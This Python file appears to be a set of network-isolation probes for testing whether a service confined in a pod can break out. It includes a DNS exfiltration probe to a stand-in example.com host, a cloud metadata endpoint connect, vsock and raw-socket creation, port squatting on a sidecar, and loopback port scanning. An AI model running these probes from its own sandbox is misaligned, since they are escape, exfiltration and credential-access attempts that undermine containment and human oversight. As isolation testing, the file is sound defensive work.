"""What a learner's service could try on the network, inside a pod.

Every function returns what it found, as JSON.
"""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import time
from collections.abc import Callable, Iterable
from typing import Any

HOSTS = os.environ["HOSTS"].split()
PORT = int(os.environ["HOST_PORT"])
MARK = b"seatrial-attack"
EVERYWHERE = [*HOSTS, "255.255.255.255", "172.17.255.255", "239.77.77.77", "224.0.0.1"]


def tcp(address: str, port: int, timeout: float = 2) -> str:
    try:
        with socket.create_connection((address, port), timeout=timeout):
            return "open"
    except OSError as error:
        return error.strerror or type(error).__name__


def udp(
    prepare: Callable[[socket.socket], object],
    flags: int = 0,
    targets: Iterable[str] = EVERYWHERE,
    ancillary: Iterable[Any] = (),
) -> list[str]:
    sent = []
    for target in targets:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                prepare(s)
                s.sendmsg([MARK], list(ancillary), flags, (target, PORT))
                sent.append(target)
            except OSError:
                pass
    return sent


def host_tcp() -> Any:
    return {a: tcp(a, PORT) for a in HOSTS if not a.startswith("127.")}


def host_udp_broadcast() -> Any:
    return udp(lambda _: None)


def host_multicast() -> Any:
    def prepare(s: socket.socket) -> None:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 4)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))

    return udp(prepare, targets=["239.77.77.77", "224.0.0.1"])


def dontroute_bindtodevice() -> Any:
    for device in (b"lo", b"eth0", b"docker0", b"ens4"):
        udp(
            lambda s, name=device: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name),
            socket.MSG_DONTROUTE,
        )
    return [name for _, name in socket.if_nameindex()]


def pktinfo_dontroute() -> Any:
    for index in range(1, 12):
        info = struct.pack("i4s4s", index, b"\0" * 4, b"\0" * 4)
        udp(lambda _: None, socket.MSG_DONTROUTE, ancillary=[(socket.IPPROTO_IP, 8, info)])
    return True


def raw_frame_v6() -> Any:
    said = {}
    for name, make in {
        "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD)),
        "raw6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
    }.items():
        try:
            make().close()
            said[name] = "made"
        except OSError as error:
            said[name] = error.strerror
    for index in range(1, 12):
        try:
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                s.sendto(MARK, ("ff02::1", PORT, 0, index))
        except OSError:
            pass
    return said


def arp_oracle() -> Any:
    with open("/proc/net/arp") as table, open("/proc/net/route") as routes:
        return [len(table.readlines()) - 1, len(routes.readlines()) - 1]


def dns_exfil() -> Any:
    began = time.monotonic()
    try:
        answer = socket.gethostbyname("c2VjcmV0.example.com")
    except OSError:
        answer = "none"
    return [answer, time.monotonic() - began]


def metadata_169_254() -> Any:
    return tcp("169.254.169.254", 80)


def vsock() -> Any:
    libc = ctypes.CDLL(None, use_errno=True)
    said = []
    for family in (40, (1 << 32) | 40):
        ctypes.set_errno(0)
        fd = libc.syscall(
            ctypes.c_long(41), ctypes.c_long(family), ctypes.c_long(1), ctypes.c_long(0)
        )
        said.append("made" if fd >= 0 else os.strerror(ctypes.get_errno()))
    return said


def port_squat_sidecar() -> Any:
    said = {}
    for address in ("0.0.0.0", "127.0.0.1", "127.0.0.3"):
        for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            with socket.socket() as s:
                if option:
                    s.setsockopt(socket.SOL_SOCKET, option, 1)
                try:
                    s.bind((address, 9100))
                    s.listen()
                    said[f"{address} {option}"] = "taken over"
                except OSError as error:
                    said[f"{address} {option}"] = error.strerror
    return said


def probe_port_scan() -> Any:
    found: list[Any] = []
    for path in ("/proc/net/tcp", "/proc/net/tcp6", "/proc/net/udp", "/proc/net/udp6"):
        with open(path) as table:
            rows = [row.split() for row in table.readlines()[1:]]
        found += [int(r[1].rsplit(":", 1)[1], 16) for r in rows if r[3] == "0A" or "udp" in path]
    with open("/proc/net/unix") as table:
        found += [row.split()[7] for row in table.readlines()[1:] if len(row.split()) > 7]
    found += [
        port
        for port in range(1, 12000)
        if tcp("127.0.0.4", port, 0.2) == "open" and port not in found
    ]
    return found
